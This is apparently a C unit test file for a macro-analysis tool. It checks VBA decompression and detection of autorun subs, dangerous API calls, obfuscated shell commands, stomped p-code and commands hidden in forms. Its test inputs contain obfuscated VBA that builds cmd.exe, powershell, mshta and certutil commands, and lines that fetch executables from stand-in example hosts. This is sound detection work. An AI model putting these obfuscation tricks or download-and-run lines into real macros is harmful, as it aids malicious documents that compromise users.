/*
 * test_vba.c - macros: their compression, their project, and what their source comes to. All of them are harmless:
 * nothing is run, names are of example domains.
 */
#include "exam_test.h"

#include "macro/vba_pack.h"
#include "office/office.h"
#include "../scenario/vba_writer.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static struct exam_test *t;
static struct ole_writer writer;

static void open_file(void)
{
	struct span file = ole_writer_file(&writer);

	ole_writer_free(&writer);
	exam_test_open(t, office_ole, file, "test.doc");
	free((void *)file.ptr);
}

/* A document of Word with one module of that source. */
static void open_macro(const char *source)
{
	struct vba_writer_module module = { .name = "Module1", .source = source };

	ole_writer_init(&writer);
	vba_writer_add(&writer, "Macros", &module, 1);
	open_file();
}

static bool found(enum finding_id id)
{
	return exam_test_found(t, id, "");
}

/* [MS-OVBA] 3.2.2 and 3.2.3: the examples of the specification. */
static void test_pack_examples(void **state)
{
	static const uint8_t normal[] = { 0x01, 0x2f, 0xb0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64, 0x65, 0x82,
					  0x66, 0x00, 0x70, 0x61, 0x67, 0x68, 0x69, 0x6a, 0x01, 0x38, 0x08, 0x61, 0x6b,
					  0x6c, 0x00, 0x30, 0x6d, 0x6e, 0x6f, 0x70, 0x06, 0x71, 0x02, 0x70, 0x04, 0x10,
					  0x72, 0x73, 0x74, 0x75, 0x76, 0x10, 0x77, 0x78, 0x79, 0x7a, 0x00, 0x3c };
	static const uint8_t most[] = { 0x01, 0x03, 0xb0, 0x02, 0x61, 0x45, 0x00 };
	struct arena *arena = &t->exam.arena;
	struct span out;

	(void)state;
	arena_clear(arena);
	assert_true(vba_unpack((struct span){ normal, sizeof(normal) }, 4096, arena, &out));
	assert_true(span_equal(out, text_span("#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa")));
	assert_true(vba_unpack((struct span){ most, sizeof(most) }, 4096, arena, &out));
	assert_int_equal(out.len, 73);
	assert_false(vba_unpack((struct span){ most, sizeof(most) }, 10, arena, &out)); /* cut by the limit */
	assert_int_equal(out.len, 10);
	assert_false(vba_unpack((struct span){ most, sizeof(most) - 1 }, 4096, arena, &out));
	assert_false(vba_unpack((struct span){ most + 1, 4 }, 4096, arena, &out));
}

static void test_pack_round(void **state)
{
	uint8_t *plain = malloc(20000);
	struct span packed, out;
	uint32_t random = 1;

	(void)state;
	assert_non_null(plain);
	for (size_t i = 0; i < 20000; i++) {
		random = random * 1664525 + 1013904223;
		plain[i] = i < 12000 ? (uint8_t)(i % 71 + i / 999) : (uint8_t)(random >> 24); /* the end does not shrink */
	}
	packed = vba_writer_pack((struct span){ plain, 16384 });
	arena_clear(&t->exam.arena);
	assert_true(vba_unpack(packed, 1 << 20, &t->exam.arena, &out));
	assert_int_equal(out.len, 16384);
	assert_memory_equal(out.ptr, plain, 16384);
	free((void *)packed.ptr);
	free(plain);
}

static void test_harmless(void **state)
{
	(void)state;
	open_macro("Sub Format()\r\n  Selection.Font.Bold = True ' Shell \"cmd.exe\"\r\n  MsgBox \"done\"\r\nEnd Sub\r\n");
	assert_true(exam_test_found(t, FINDING_MACRO, "Module1"));
	assert_false(found(FINDING_MACRO_CALLS) || found(FINDING_MACRO_COMMAND) || found(FINDING_MACRO_AUTORUN) ||
		     found(FINDING_MACRO_HIDDEN) || found(FINDING_MACRO_STOMPED) || found(FINDING_MACRO_FILES));
	/* Modules without code are in every workbook that was saved with a project. */
	open_macro("Attribute VB_Base = \"0{00020819-0000-0000-C000-000000000046}\"\r\nOption Explicit\r\n");
	assert_int_equal(t->exam.found_count, 0);
}

static void test_autorun(void **state)
{
	(void)state;
	open_macro("private sub DOCUMENT_open ( )\r\n x = 1\r\nend sub\r\n");
	assert_true(exam_test_found(t, FINDING_MACRO_AUTORUN, "DOCUMENT_open"));
	open_macro("Sub MyDocument_Open2()\r\nEnd Sub\r\n'Sub AutoOpen()\r\n");
	assert_false(found(FINDING_MACRO_AUTORUN));
	/* The events of controls count where something is done. */
	open_macro("Sub Frame1_Layout()\r\n x = 1\r\nEnd Sub\r\n");
	assert_false(found(FINDING_MACRO_AUTORUN));
	open_macro("Sub Frame1_Layout()\r\n Shell \"calc\"\r\nEnd Sub\r\n");
	assert_true(exam_test_found(t, FINDING_MACRO_AUTORUN, "Frame1_Layout"));
}

static void test_calls(void **state)
{
	(void)state;
	open_macro("Declare PtrSafe Function fetch Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\r\n"
		   "Sub a()\r\nEnd Sub\r\n");
	assert_true(exam_test_found(t, FINDING_MACRO_CALLS, "URLDownloadToFileA"));
	open_macro("Sub a()\r\n Set s = CreateObject(\"WScript.Shell\")\r\nEnd Sub\r\n");
	assert_true(exam_test_found(t, FINDING_MACRO_CALLS, "WScript.Shell"));
	open_macro("Sub a()\r\n Dim shell As Object\r\n shell = 1\r\n Me.Shell = 2\r\nEnd Sub\r\n");
	assert_false(found(FINDING_MACRO_CALLS));
	open_macro("Sub a()\r\n FileCopy x, y\r\nEnd Sub\r\n");
	assert_true(exam_test_found(t, FINDING_MACRO_FILES, "FileCopy"));
	assert_false(found(FINDING_MACRO_CALLS));
}

static void expect_command(const char *source, const char *command)
{
	open_macro(source);
	if (!exam_test_found(t, FINDING_MACRO_COMMAND, command))
		exam_test_show(t);
	assert_true(exam_test_found(t, FINDING_MACRO_COMMAND, command));
}

static void test_decode(void **state)
{
	(void)state;
	expect_command("Sub a()\r\n s = \"po\" & \"wers\" + _\r\n \"hell -c x\"\r\n Shell s\r\nEnd Sub\r\n", "powershell -c x");
	expect_command("Sub a()\r\n Shell Chr(99) & ChrW$(&H6D) & Chr(90 + 5 * 2) & \".exe /c x\", 0\r\nEnd Sub\r\n", "cmd.exe /c x");
	expect_command("Sub a()\r\n x = StrReverse(\"c/ exe.dmc\")\r\nEnd Sub\r\n", "cmd.exe /c");
	expect_command("Sub a()\r\n x = Replace(\"czzmzzd.ezzxe /k\", \"zz\", \"\")\r\nEnd Sub\r\n", "cmd.exe /k");
	expect_command("Sub a()\r\n x = Join(Array(\"ms\", \"hta\", \" x\"), \"\")\r\nEnd Sub\r\n", "mshta x");
	expect_command("Sub a()\r\n x = Join(Split(\"ms@hta x\", \"@\"), \"\")\r\nEnd Sub\r\n", "mshta x");
	expect_command("Sub a()\r\n y = Array(99, 109, 100, 46, 101, 120, 101)\r\nEnd Sub\r\n", "cmd.exe");
	expect_command("Const A = \"certu\", B = \"til -x\"\r\nSub c()\r\n Run A & B\r\nEnd Sub\r\n", "certutil -x");
	expect_command("Function f()\r\n f = \"msh\" & \"ta\"\r\nEnd Function\r\nSub a()\r\n Run f() & \" q\"\r\nEnd Sub\r\n", "mshta q");
	expect_command("Sub a()\r\n If b Then c = \"cmd /c say \"\"x\"\"\"\r\nEnd Sub\r\n", "cmd /c say \"x\"");
	expect_command("Sub a()\r\n x = Mid(\"__mshta__\", 3, 5) & Left(\" x__\", 2) & Chr(Asc(\"a\") Xor 1)\r\nEnd Sub\r\n", "mshta x`");
}

/* A string that hides another is told as such, too. */
static void test_hidden(void **state)
{
	char dense[301] = "", source[512];

	(void)state;
	expect_command("Sub a()\r\n x = Decode(\"636d642e657865202f632065636863\")\r\nEnd Sub\r\n", "cmd.exe /c");
	assert_true(exam_test_found(t, FINDING_MACRO_HIDDEN, "cmd.exe"));
	expect_command("Sub a()\r\n x = Decode(\"cG93ZXJzaGVsbCAtYyBleGl0\")\r\nEnd Sub\r\n", "powershell -c exit");
	open_macro("Sub a()\r\n x = \"exe.x/elpmaxe.tset//:ptth\"\r\nEnd Sub\r\n");
	assert_true(exam_test_url(t, "http://test.example/x.exe"));
	assert_true(found(FINDING_MACRO_HIDDEN));
	open_macro("Sub a()\r\n x = \"The quick brown fox\" & y & \"jumps over the lazy dog\"\r\nEnd Sub\r\n");
	assert_false(found(FINDING_MACRO_HIDDEN) || found(FINDING_MACRO_COMMAND));
	/* Long strings that only a decoder reads; long texts that people read. */
	memset(dense, 'k', 300);
	snprintf(source, sizeof(source), "Sub a()\r\n x = Decode(\"%s\")\r\nEnd Sub\r\n", dense);
	open_macro(source);
	assert_true(exam_test_found(t, FINDING_MACRO_HIDDEN, "300 bytes"));
	for (size_t i = 0; i < 300; i += 9)
		dense[i] = ' ';
	snprintf(source, sizeof(source), "Sub a()\r\n x = Decode(\"%s\")\r\nEnd Sub\r\n", dense);
	open_macro(source);
	assert_false(found(FINDING_MACRO_HIDDEN));
}

static void test_url(void **state)
{
	(void)state;
	open_macro("Sub a()\r\n u = \"ht\" & \"tp://files.example/a.exe\"\r\n Get u\r\nEnd Sub\r\n");
	assert_true(exam_test_url(t, "http://files.example/a.exe"));
	assert_false(found(FINDING_MACRO_HIDDEN));
}

/* The compiled code names what the source does not. */
static void test_stomped(void **state)
{
	struct vba_writer_module module = { .name = "ThisDocument",
					    .source = "Sub a()\r\nEnd Sub\r\n",
					    .code = text_span("\xb9\0\x0dWScript.Shell\0\0\0\0\0\0\0") };

	(void)state;
	module.code.len = 24;
	module.code = (struct span){ (const uint8_t *)"\1\x16\1\0\xb9\0\x0d\0WScript.Shell\0\0\0", 24 };
	ole_writer_init(&writer);
	vba_writer_add(&writer, "", &module, 1);
	open_file();
	assert_true(exam_test_found(t, FINDING_MACRO_STOMPED, "WScript.Shell"));
	module.source = "Sub a()\r\n Set x = CreateObject(\"WScript.Shell\")\r\nEnd Sub\r\n";
	ole_writer_init(&writer);
	vba_writer_add(&writer, "", &module, 1);
	open_file();
	assert_false(found(FINDING_MACRO_STOMPED));
	module.source = "Option Explicit\r\n";
	ole_writer_init(&writer);
	vba_writer_add(&writer, "", &module, 1);
	open_file();
	assert_true(found(FINDING_MACRO_STOMPED) && exam_test_found(t, FINDING_MACRO, "without its source"));
}

/* An object by a name that is worked out when it runs; one by its name; a file by its path. */
static void test_blind(void **state)
{
	(void)state;
	open_macro("Sub AutoOpen()\r\n Set x = CreateObject(\"W\" & y & \"l\")\r\nEnd Sub\r\n");
	assert_true(exam_test_found(t, FINDING_MACRO_HIDDEN, "objects"));
	open_macro("Sub AutoOpen()\r\n Set x = CreateObject(Form1.Tag)\r\nEnd Sub\r\n");
	assert_true(exam_test_found(t, FINDING_MACRO_HIDDEN, "objects"));
	open_macro("Sub AutoOpen()\r\n Set x = CreateObject(\"Scripting.Dictionary\")\r\n Set y = GetObject(p)\r\nEnd Sub\r\n");
	assert_false(found(FINDING_MACRO_HIDDEN));
}

/* Commands that stand in the controls of a form. */
static void test_form(void **state)
{
	struct vba_writer_module module = { .name = "Module1", .source = "Sub a()\r\n Run UserForm1.T\r\nEnd Sub\r\n" };

	(void)state;
	ole_writer_init(&writer);
	vba_writer_add(&writer, "Macros", &module, 1);
	ole_writer_add(&writer, "Macros/UserForm1/o", (struct span){ (const uint8_t *)"\0\1\2\3powershell -c x\0\0", 21 });
	open_file();
	assert_true(exam_test_found(t, FINDING_MACRO_COMMAND, "powershell -c x"));
	ole_writer_init(&writer);
	vba_writer_add(&writer, "Macros", &module, 1);
	ole_writer_add(&writer, "\5SummaryInformation", (struct span){ (const uint8_t *)"\0\1\2\3mshta http://a.example/\0\0", 29 });
	open_file();
	assert_true(exam_test_found(t, FINDING_MACRO_COMMAND, "mshta http://a.example/"));
}

/* A module whose place in its stream is told wrongly, and a project without a readable `dir`. */
static void test_broken(void **state)
{
	struct vba_writer_module module = { .name = "Module1", .source = "Sub AutoOpen()\r\n Shell \"cmd /c x\"\r\nEnd Sub\r\n" };

	(void)state;
	ole_writer_init(&writer);
	vba_writer_add(&writer, "Macros", &module, 1);
	ole_writer_add(&writer, "Macros/VBA/dir", text_span("\1\1\1 this is no dir"));
	open_file();
	assert_true(found(FINDING_MACRO_AUTORUN) && found(FINDING_MACRO_COMMAND));
	assert_true(t->exam.unseen[UNSEEN_BROKEN] > 0);
}

/* Long sums of strings, deep brackets, many variables: neither quadratic nor deep. */
static void test_hostile(void **state)
{
	char *source = malloc(65000);
	size_t used = 0;

	(void)state;
	assert_non_null(source);
	used += (size_t)snprintf(source, 100, "Sub a()\r\n");
	while (used < 60000)
		used += (size_t)snprintf(source + used, 100, "s = s & \"cmd /c \" & Chr(65)\r\n");
	open_macro(source);
	assert_true(found(FINDING_MACRO_COMMAND));
	used = (size_t)snprintf(source, 100, "Sub a()\r\n x = ");
	memset(source + used, '(', 60000);
	source[60000] = '\0';
	open_macro(source);
	assert_true(found(FINDING_MACRO));
	free(source);
}

/* The tables are looked up by halving, and by first letters. */
static void test_tables(void **state)
{
	static const char *const words[] = {
#define WORD(name, deed) name,
#include "macro/words.def"
	};
	static const char *const needles[] = {
#define NEEDLE(name, deed) name,
#include "macro/words.def"
	};

	(void)state;
	for (size_t i = 1; i < sizeof(words) / sizeof(words[0]); i++)
		assert_true(strcmp(words[i - 1], words[i]) < 0);
	for (size_t i = 1; i < sizeof(needles) / sizeof(needles[0]); i++)
		assert_true(strcmp(needles[i - 1], needles[i]) < 0);
}

static int begin(void **state)
{
	(void)state;
	t = exam_test_new();
	return t ? 0 : -1;
}

static int end(void **state)
{
	(void)state;
	exam_test_free(t);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_pack_examples), cmocka_unit_test(test_pack_round), cmocka_unit_test(test_harmless),
		cmocka_unit_test(test_autorun),	      cmocka_unit_test(test_calls),	 cmocka_unit_test(test_decode),
		cmocka_unit_test(test_blind),	      cmocka_unit_test(test_tables),	      cmocka_unit_test(test_hidden),	      cmocka_unit_test(test_url),	 cmocka_unit_test(test_stomped),
		cmocka_unit_test(test_form),	      cmocka_unit_test(test_broken),	 cmocka_unit_test(test_hostile),
	};

	return cmocka_run_group_tests(tests, begin, end);
}
